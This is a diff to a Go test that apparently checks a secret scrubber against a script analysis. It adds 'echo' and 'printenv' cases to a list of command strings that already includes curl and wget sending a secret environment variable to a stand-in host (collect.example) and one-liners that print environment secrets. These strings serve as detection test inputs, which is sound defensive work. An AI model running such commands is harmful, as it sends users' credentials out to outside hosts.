@@ -16,7 +16,8 @@ var secretNamesMore = []string{
 
 // TestScrubberAndAnalysisAgree: a variable the scrubber removes from every
 // command's environment is the one the analysis treats as a secret when a
-// script sends it, reads it through ${!n} or has inline code print it, and
+// script sends it, prints it, reads it through ${!n} or has inline code
+// print it, and
 // a variable the scrubber keeps is none of these.
 func TestScrubberAndAnalysisAgree(t *testing.T) {
 	p := Default()
@@ -37,6 +38,8 @@ func TestScrubberAndAnalysisAgree(t *testing.T) {
 			`curl -s -d "v=$` + name + `" https://collect.example/x`,
 			`wget -q "https://collect.example/?v=${` + name + `}"`,
 			`n=` + name + `; echo "${!n}"`,
+			`echo "v=$` + name + `"`,
+			`printenv ` + name,
 			`python3 -c 'import os; print(os.environ["` + name + `"])'`,
 			`node -e 'console.log(process.env.` + name + `)'`,
 		} {
